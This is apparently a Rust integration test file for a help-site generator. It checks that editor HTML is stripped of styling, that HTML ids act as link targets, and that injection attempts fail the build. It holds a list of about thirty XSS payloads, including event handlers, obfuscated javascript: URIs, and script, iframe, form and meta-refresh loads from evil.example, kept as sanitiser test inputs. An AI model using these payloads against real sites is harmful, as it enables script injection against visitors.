//! Raw HTML in articles: editor HTML from knowledge-base exports builds with its looks dropped; script, off-site
//! loads and navigation are errors at their lines; ids in HTML are link targets.

use crate::common::{article, Fixture};

const ZENDESK: &str = r##"<p class="MsoNormal" style="margin: 0in; font-family: Calibri">To connect your mailbox, follow these steps.</p>

<table style="width: 133px; border-collapse: collapse" border="1" cellpadding="4" cellspacing="0">
<tbody>
<tr>
<td style="width: 60px" valign="top"><span style="color: #ff0000"><strong>Server</strong></span></td>
<td style="width: 73px" valign="top"><font face="Arial" size="2" color="#333333">mail.example.com</font></td>
</tr>
</tbody>
</table>

<p class="MsoNormal wysiwyg-text-align-left" align="left"><span style="font-size: 10pt">Then click <b>Save</b>.</span></p>

<style>
p.MsoNormal { margin: 0 }
</style>

Some Markdown with <span style="color: red">inline</span> and <font color="blue">font</font> HTML.
"##;

#[test]
fn an_article_full_of_editor_html_builds_with_one_warning_and_no_inline_style() {
    let f = Fixture::two_versions();
    f.write("content/v2/email/connect.md", &article("Connect", ZENDESK));
    let summary = f.build_ok();
    let warnings = summary.warnings.to_string();
    assert_eq!(summary.warnings.warning_count(), 1, "{warnings}");
    assert!(
        warnings.contains("content/v2/email/connect.md:5: 7 inline style attributes, 6 other presentational attributes, 2 <font> tags, 1 <style> element and 3 editor class names were dropped: the page's Content-Security-Policy would block them"),
        "{warnings}"
    );
    let page = f.page("v2/email/connect/index.html");
    for gone in [
        " style=",
        "<font",
        "</font>",
        "Mso",
        "wysiwyg",
        "valign",
        "cellpadding",
        "margin: 0",
    ] {
        assert!(!page.contains(gone), "{gone} in\n{page}");
    }
    for kept in [
        "<strong>Server</strong>",
        "mail.example.com",
        "<b>Save</b>",
        "<table>",
        "inline</span>",
        " font ",
    ] {
        assert!(page.contains(kept), "{kept} missing in\n{page}");
    }
}

/// Each vector is an error at its own line: (HTML, something of it that must never be published).
const VECTORS: &[(&str, &str)] = &[
    ("<img src=x onerror=alert(1)>", "onerror"),
    ("<svg onload=alert(1)></svg>", "onload"),
    ("<iframe src=https://evil.example/></iframe>", "evil"),
    ("<a href=\"javascript:alert(1)\">x</a>", "alert"),
    ("<a href=\"JaVaScRiPt:alert(1)\">x</a>", "alert"),
    ("<a href=\"&#106;avascript:alert(1)\">x</a>", "alert"),
    ("<a href=\"&#x6A;avascript&colon;alert(1)\">x</a>", "alert"),
    ("<a href=\"java&Tab;script:alert(1)\">x</a>", "alert"),
    ("<a href=\"vbscript:msgbox(1)\">x</a>", "msgbox"),
    (
        "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
        "base64",
    ),
    (
        "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
        "evil",
    ),
    ("<base href=\"https://evil.example/\">", "evil"),
    (
        "<form action=https://evil.example/><input name=q></form>",
        "evil",
    ),
    (
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "evil",
    ),
    ("<object data=https://evil.example/x.swf></object>", "evil"),
    ("<embed src=https://evil.example/x.swf>", "evil"),
    ("<video poster=https://evil.example/p.png></video>", "evil"),
    ("<img srcset=\"https://evil.example/x.png 2x\">", "evil"),
    (
        "<math><a xlink:href=javascript:alert(1)>x</a></math>",
        "alert",
    ),
    ("<input formaction=https://evil.example/>", "evil"),
    ("<button formaction=javascript:alert(1)>b</button>", "alert"),
    ("<details open ontoggle=alert(1)>d</details>", "ontoggle"),
    ("<body onload=alert(1)>", "onload"),
    ("<script src=//evil.example/x.js></script>", "evil"),
    ("<SCRIPT>alert(1)</SCRIPT>", "alert"),
    ("<IMG SRC=x ONERROR=alert(1)>", "ONERROR"),
    ("<img\nsrc=x\nonerror=alert(1)>", "onerror"),
    (
        "<svg><use href=\"https://evil.example/i.svg#a\"></use></svg>",
        "evil",
    ),
    (
        "<a href=\"https://example.com/\" ping=\"https://evil.example/t\">x</a>",
        "evil",
    ),
    ("<audio src=https://evil.example/a.mp3></audio>", "evil"),
    (
        "<noscript><img src=https://evil.example/x.png></noscript>",
        "evil",
    ),
];

#[test]
fn known_injection_vectors_each_fail_the_build_at_their_line() {
    let f = Fixture::two_versions();
    let mut body = String::from("Intro.\n\n");
    let mut lines = Vec::new();
    // Front matter: 3 lines and a blank one; the body starts at line 5.
    let mut line = 5 + 2;
    for (html, _) in VECTORS {
        lines.push(line);
        body.push_str(html);
        body.push_str("\n\n");
        line += html.matches('\n').count() + 2;
    }
    f.write("content/v2/a/vectors.md", &article("Vectors", &body));
    let report = f.build_err();
    for ((html, _), line) in VECTORS.iter().zip(&lines) {
        assert!(
            report.contains(&format!("content/v2/a/vectors.md:{line}: ")),
            "{html} at line {line}:\n{report}"
        );
    }
    // One error per vector (`src=x` is also a missing image for the site check, with no line).
    let at_a_line = report
        .split("content/v2/a/vectors.md:")
        .skip(1)
        .filter(|rest| rest.starts_with(|c: char| c.is_ascii_digit()))
        .count();
    assert_eq!(at_a_line, VECTORS.len(), "{report}");
    assert!(
        !f.exists("v2/a/vectors/index.html"),
        "a failed build publishes nothing"
    );
}

#[test]
fn nothing_of_a_vector_reaches_the_rewritten_html() {
    // The page of a failed build is not published; nor is anything else of it (the rewrite's own output is checked by
    // the unit tests beside it).
    for (html, marker) in VECTORS {
        let f = Fixture::two_versions();
        f.write(
            "content/v2/a/one.md",
            &article(
                "One",
                &format!("Intro.\n\n{html}\n\nText with {html} inline.\n"),
            ),
        );
        let report = f.build_err();
        assert!(
            report.contains("content/v2/a/one.md:7: "),
            "{html}:\n{report}"
        );
        for (path, bytes) in crate::common::snapshot_dir(&f.out()) {
            assert!(
                !String::from_utf8_lossy(&bytes).contains(marker),
                "{html}: {marker} in {path}"
            );
        }
    }
}

/// The vectors that are only looks: dropped with the warning, never published.
/// Every "dropped with a warning" vector, as an article the browser test opens too.
const DROPPED: &str = include_str!("../fixtures/html-vectors/content/v1/a/dropped.md");

/// A site of every "dropped with a warning" vector; `HELPSITE_VECTOR_SITE=DIR` builds it there to open in a browser.
fn dropped_vectors_site() -> Fixture {
    let f = Fixture::two_versions();
    f.write("content/v2/a/dropped.md", DROPPED);
    f
}

#[test]
fn style_only_vectors_build_with_the_warning_and_publish_no_style() {
    let f = dropped_vectors_site();
    let summary = f.build_ok();
    assert_eq!(summary.warnings.warning_count(), 1, "{}", summary.warnings);
    let page = f.page("v2/a/dropped/index.html");
    for gone in [
        "evil.example/x",
        "evil.example/bg",
        "style=",
        "STYLE=",
        "<font",
        "@import",
        "MsoNormal",
        "align=",
    ] {
        assert!(!page.contains(gone), "{gone} in\n{page}");
    }
    assert!(
        page.contains("<a href=\"https://evil.example/page\">"),
        "an ordinary link stays"
    );
    if let Some(dir) = std::env::var_os("HELPSITE_VECTOR_SITE") {
        let mut options = f.options();
        options.output = Some(dir.into());
        helpsite::build(&options).unwrap();
    }
}

#[test]
fn ids_in_raw_html_are_link_targets() {
    let f = Fixture::two_versions();
    f.write(
        "content/v2/a/ids.md",
        &article(
            "Ids",
            "See [setup](#setup), [legacy](#legacy) and [x](#x).\n\n<h2 id=\"setup\">Set up</h2>\n\nText <a name=\"legacy\"></a> and <a id=\"x\">x</a>.\n\n## Setup\n",
        ),
    );
    f.build_ok();
    let page = f.page("v2/a/ids/index.html");
    assert!(
        page.contains("<h2 id=\"setup-1\">"),
        "the automatic id avoids the HTML's: {page}"
    );
}

#[test]
fn an_id_in_raw_html_used_twice_is_an_error_at_its_line() {
    let f = Fixture::two_versions();
    f.write(
        "content/v2/a/twice.md",
        &article("Twice", "## Setup {#setup}\n\n<div id=\"setup\">x</div>\n"),
    );
    let report = f.build_err();
    assert!(
        report.contains("content/v2/a/twice.md:7: id=\"setup\" in the article's HTML is used twice on this page"),
        "{report}"
    );
}
